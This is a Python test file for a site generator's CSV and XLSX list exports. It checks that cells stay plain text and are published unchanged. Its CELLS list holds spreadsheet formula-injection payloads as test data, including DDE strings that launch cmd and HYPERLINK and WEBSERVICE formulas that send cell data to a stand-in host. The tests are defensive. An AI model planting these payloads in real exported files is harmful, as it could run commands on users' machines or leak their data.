"""Lists for download: cells that spreadsheets would run stay texts, and no cell is another one than was published."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
from openpyxl.utils.escape import unescape

from generator.plan.tables import Sheet
from generator.render.workbook import workbook_bytes
from tests.payloads.reading import rows_of_csv
from tests.support.site import TinySite, make, record

#: What makes a cell a formula (OWASP ASVS 5.0, 1.2.10), or makes spreadsheets guess at its type.
CELLS = (
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "-2+3+cmd|'/c calc'!A0", "@SUM(1,1)", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1,1)", '=HYPERLINK("https://other.example/?x="&A1,"点")', '"=1+1', "'=1+1", ";=1+1", "%0A=1+1",
    "=DDE(\"cmd\",\"/c calc\",\"x\")", "=WEBSERVICE(\"https://other.example/\")", "a\t=1+1", "0012", "1E5", "1/2",
    "2008-03-01", "TRUE", "#REF!", "123456789012345678", "_x003D_1+1", "_x000D_=1", "_x005F_x0041_", "_xZZZZ_",
    "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "]]>", "&#61;1+1", "a  b", "𠮷", "{=1+1}",
)  # fmt: skip
#: Blanks around a value are no part of it, so that none of these can begin a published cell.
LEADING = ("\t=1+1", "  =1+1", "\u3000=1+1", "\u00a0=1+1")
HEAD = "title,note\n"
STEM = "lists/2008/l"
FIELDS = {
    "stage": "other",
    "window": "{opens: 2008-03-03, closes: 2008-03-07}",
    "projects": "{file: list.csv}",
}


def quoted(text: str) -> str:
    """A cell of a CSV file, always in quotes."""
    return '"' + text.replace('"', '""') + '"'


def listed(folder: Path, cells: tuple[str, ...]) -> TinySite:
    """A site with one list; each row has the cell twice: as its head, and beside it."""
    site = make(folder).write("content/lists/2008/l.md", record("l", **FIELDS))
    rows = "".join(f"{quoted(cell)},{quoted(cell)}\n" for cell in cells)
    return site.write("content/lists/2008/list.csv", HEAD + rows)


def rows_of_workbook(data: bytes) -> list[list[str]]:
    """All cells of the first sheet by openpyxl; anything but a text fails."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    found = []
    for row in sheet.iter_rows():
        assert all(cell.data_type == "s" for cell in row), [cell.value for cell in row]
        found.append([unescape(str(cell.value)) for cell in row])
    return found


def elements_of_workbook(data: bytes) -> set[str]:
    """The names of all elements of all its sheets, by a parser of the standard library."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(name) for name in book.namelist() if "/sheet" in name]
    return {
        element.tag.rpartition("}")[2] for sheet in sheets for element in ElementTree.fromstring(sheet).iter()
    }


def test_cells_stay_texts_and_are_what_was_written(tmp_path: Path) -> None:
    site = listed(tmp_path, CELLS).build()
    rows = [[cell, cell] for cell in CELLS]
    exact = (site.output / f"{STEM}.csv").read_bytes()
    assert rows_of_csv(exact) == [["title", "note"], *rows]
    for cell in CELLS:  # nothing was put before or into a cell, seen without any reader
        assert quoted(cell).encode() in exact or cell.encode() in exact.replace(b"\r\n", b",").split(b",")
    book = (site.output / f"{STEM}.xlsx").read_bytes()
    assert rows_of_workbook(book) == [["项目名称", "备注"], *rows]
    assert elements_of_workbook(book) == {"worksheet", "sheetData", "row", "c", "is", "t"}


def test_blanks_around_a_cell_are_no_part_of_it(tmp_path: Path) -> None:
    site = listed(tmp_path, LEADING[:1]).build()
    assert rows_of_csv((site.output / f"{STEM}.csv").read_bytes())[1:] == [["=1+1", "=1+1"]]
    for number, cell in enumerate(LEADING[1:]):
        again = listed(tmp_path / str(number), (cell,)).build()
        assert again.files()[f"{STEM}.xlsx"] == site.files()[f"{STEM}.xlsx"]


def test_a_carriage_return_cannot_come_in(tmp_path: Path) -> None:
    """In files it ends a line; written as an escape it is refused by name."""
    site = make(tmp_path).write("content/notices/2008/a.md", record("a", title='"甲\\r=1+1"'))
    assert [one for one in site.check().problems() if one.startswith("S")] == [
        "S004 content/notices/2008/a.md:3:8"
    ]


def test_the_page_offers_the_workbook(tmp_path: Path) -> None:
    page = listed(tmp_path, CELLS[:1]).build().read(f"{STEM}.html")
    assert re.findall(r'href="l\.(\w+)"|href="[./]*lists/2008/l\.(\w+)"', page)
    assert [form for form in ("csv", "xlsx", "json") if f'lists/2008/l.{form}"' in page] == [
        "csv",
        "xlsx",
        "json",
    ]


def test_a_workbook_that_computes_is_noticed() -> None:
    """The harness sees a writer that leaves the type of a cell to its text."""
    sound = workbook_bytes((("表", Sheet(("a",), (("=1+1",),))),))
    assert "f" not in elements_of_workbook(sound)
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sound)) as book, zipfile.ZipFile(stream, "w") as planted:
        for name in book.namelist():
            text = book.read(name).decode()
            text = re.sub(
                r' t="inlineStr"><is><t xml:space="preserve">=([^<]*)</t></is>', r"><f>\1</f>", text
            )
            planted.writestr(name, text)
    assert "f" in elements_of_workbook(stream.getvalue())
    try:
        rows_of_workbook(stream.getvalue())
    except AssertionError:
        return
    raise AssertionError("a formula was taken for a text")


def test_columns_go_on_behind_z() -> None:
    names = tuple(f"c{number}" for number in range(100))
    assert rows_of_workbook(workbook_bytes((("表", Sheet(names, (names,))),))) == [list(names)] * 2
